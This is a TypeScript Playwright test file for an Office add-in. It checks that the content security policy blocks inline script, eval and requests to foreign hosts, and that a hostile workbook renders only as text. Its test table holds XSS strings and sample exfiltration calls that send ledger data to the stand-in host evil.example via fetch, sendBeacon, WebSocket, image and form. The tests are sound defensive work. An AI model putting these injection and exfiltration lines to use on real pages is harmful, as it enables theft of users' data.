/**
 * The build that ships, in a browser, under its own content policy: a whole run speaks to our origin and to the host
 * of office.js alone; what a ledger holds is shown as text; script that is not ours does not run.
 */
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import type { Browser, BrowserContext } from 'playwright-core';
import { hostileWorkbook } from '../security/hostile-workbook';
import { launch, openPage, type OpenedPage } from './support/browser';
import { BUILD_MILLISECONDS, productionBuild } from './support/build';
import { PaneWalk } from './support/walk';

const root = path.join(__dirname, '../..');
const OFFICE_JS = 'https://appsforoffice.microsoft.com/lib/1/hosted/';
const TYPES: Readonly<Record<string, string>> = { '.html': 'text/html', '.js': 'text/javascript', '.xml': 'text/xml', '.png': 'image/png', '.xlsx': 'application/octet-stream' };

let browser: Browser;
let folder: string;
beforeAll(async () => {
  folder = productionBuild();
  browser = await launch();
}, BUILD_MILLISECONDS);
afterAll(() => browser?.close());

jest.setTimeout(180_000);

/** Serves the production build in place of the development one, and Microsoft's host from the package. */
async function serveBuild(context: BrowserContext): Promise<string[]> {
  const requested: string[] = [];
  // What the policy stops before it leaves the page is no request.
  context.on('requestfinished', (request) => requested.push(request.url()));
  context.on('requestfailed', (request) => request.failure()?.errorText !== 'csp' && requested.push(request.url()));
  const fulfil = (file: string) => ({ body: readFileSync(file), contentType: TYPES[path.extname(file)] ?? 'application/octet-stream' });
  await context.route(`${process.env.DUESHEET_ORIGIN}/**`, (route) => {
    const file = path.join(folder, new URL(route.request().url()).pathname);
    return existsSync(file) && path.extname(file) ? route.fulfill(fulfil(file)) : route.fallback();
  });
  await context.route(`${OFFICE_JS}**`, (route) => route.fulfill(fulfil(path.join(root, 'node_modules/@microsoft/office-js/dist', route.request().url().slice(OFFICE_JS.length).replace(/\?.*/, '')))));
  return requested;
}

const openBuild = async (workbook?: Uint8Array) => {
  let requested: string[] = [];
  const opened = await openPage(browser, { workbook, onContext: async (context) => void (requested = await serveBuild(context)) });
  return { opened, requested, steps: new PaneWalk(opened.page, opened.pane) };
};

describe('the production build', () => {
  let opened: OpenedPage;
  let requested: string[];
  beforeAll(async () => {
    const build = await openBuild();
    ({ opened, requested } = build);
    await build.steps.wholeJob();
    for (const tab of ['review', 'customers', 'plan'] as const) await build.steps.open(tab);
  });
  afterAll(() => opened.page.context().close());

  it('speaks to its own origin and to the host of office.js, and to nobody else, in a whole run', () => {
    const foreign = requested.filter((url) => !url.startsWith(`${process.env.DUESHEET_ORIGIN}/`) && !url.startsWith(OFFICE_JS) && !url.startsWith('data:') && !url.startsWith('blob:'));
    expect(foreign).toEqual([]);
    expect(requested.some((url) => url === `${OFFICE_JS}office.js`)).toBe(true);
    expect(requested.filter((url) => url.startsWith(OFFICE_JS)).every((url) => url.includes('.js'))).toBe(true);
    // Neither page nor worker complained: the policy allows all that the pane needs.
    expect(opened.problems).toEqual([]);
  });

  it('has no script and no style in its page, and is styled all the same', async () => {
    const page = readFileSync(path.join(folder, 'taskpane.html'), 'utf8');
    expect([...page.matchAll(/<script(?![^>]*\ssrc=)[^>]*>|<style|\sstyle=|\son\w+=|javascript:/g)].map(([found]) => found)).toEqual([]);
    const rules = await opened.pane.evaluate(() => Array.from(document.styleSheets).reduce((count, sheet) => count + sheet.cssRules.length, 0));
    expect(rules).toBeGreaterThan(200);
  });

  it.each([
    ['an inline script', () => document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.hacked = 1' }))],
    ['a script of another host', () => document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))],
    ['an inline handler', () => document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.hacked = 1">')],
    ['an inline style', () => document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { display: none }' }))],
    ['a picture of another host', () => document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/?ledger' }))],
    ['a frame of another host', () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))],
    ['a request to another host', () => void fetch('https://evil.example/?ledger').catch(() => undefined)],
    ['a beacon to another host', () => void navigator.sendBeacon('https://evil.example/', 'ledger')],
    ['a socket to another host', () => void new WebSocket('wss://evil.example/')],
    ['evaluated text', () => void setTimeout(() => { try { (0, eval)('window.hacked = 1'); } catch { /* Refused, as it should be. */ } })],
    ['a form', () => { const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' }); document.body.append(form); form.submit(); }],
  ])('does not run or reach %s', async (_, attempt) => {
    const before = requested.length;
    await opened.pane.evaluate(() => {
      (window as unknown as { violation: Promise<string> }).violation = new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.violatedDirective), { once: true });
        setTimeout(() => resolve('no violation'), 10_000);
      });
    });
    await opened.pane.evaluate(attempt);
    expect(await opened.pane.evaluate(() => (window as unknown as { violation: Promise<string> }).violation)).toMatch(/^(script|style|img|frame|connect|form|default)-/);
    expect(await opened.pane.evaluate(() => (window as unknown as { hacked?: number }).hacked)).toBeUndefined();
    expect(requested.slice(before).filter((url) => url.includes('evil.example'))).toEqual([]);
  });

  it('evaluates no text: neither script nor worker holds eval, new Function or a timer made of text', () => {
    const scripts = readdirSync(folder).filter((name) => name.endsWith('.js'));
    expect(scripts.length).toBeGreaterThanOrEqual(2);
    for (const name of scripts) {
      // Webpack's way to the global object where there is no `globalThis`: no browser that runs the pane gets there, and the policy would refuse it.
      const script = readFileSync(path.join(folder, name), 'utf8').replace('try{return this||new Function("return this")()}', '');
      expect([name, [...script.matchAll(/.{0,40}(?:\beval\(|\bnew Function\b|[^.\w]Function\(\s*["'`]|\bset(?:Timeout|Interval)\(\s*["'`]|document\.write\().{0,40}/g)].map(([found]) => found)]).toEqual([name, []]);
    }
  });
});

describe('a hostile ledger', () => {
  it('is shown as text in every view: no element, no handler and no link comes of it', async () => {
    const { opened, requested, steps } = await openBuild(await hostileWorkbook());
    const { pane, page } = opened;
    await steps.findLedgers();
    const seen: string[] = [await pane.locator('body').innerText()];
    await steps.run();
    for (const tab of ['results', 'review', 'customers', 'plan'] as const) {
      await steps.open(tab);
      seen.push(await pane.locator('body').innerText());
    }
    await steps.open('customers');
    await pane.getByRole('searchbox').fill('<img');
    await pane.getByRole('listitem').filter({ hasText: '<img' }).first().getByRole('button').click();
    await steps.button('pane.customer.statement').waitFor();
    seen.push(await pane.locator('body').innerText());
    expect(seen.join('\n')).toContain('<img src=x onerror="window.hacked=1">');
    expect(seen.join('\n')).toContain('<script>window.hacked=1</script>');
    const made = await pane.evaluate(() => ({
      hacked: (window as unknown as { hacked?: number }).hacked,
      elements: document.querySelectorAll('#pane img, #pane script, #pane iframe, #pane object, #pane embed, #pane form').length,
      handlers: Array.from(document.querySelectorAll('*')).filter((element) => element.getAttributeNames().some((name) => name.startsWith('on'))).length,
      links: Array.from(document.querySelectorAll('a[href]'), (link) => link.getAttribute('href')),
    }));
    expect(made).toEqual({ hacked: undefined, elements: 0, handlers: 0, links: [] });
    expect(await page.evaluate(() => (window as unknown as { hacked?: number }).hacked)).toBeUndefined();
    expect(requested.filter((url) => url.includes('evil'))).toEqual([]);
    expect(opened.problems).toEqual([]);
    await page.context().close();
  });
});
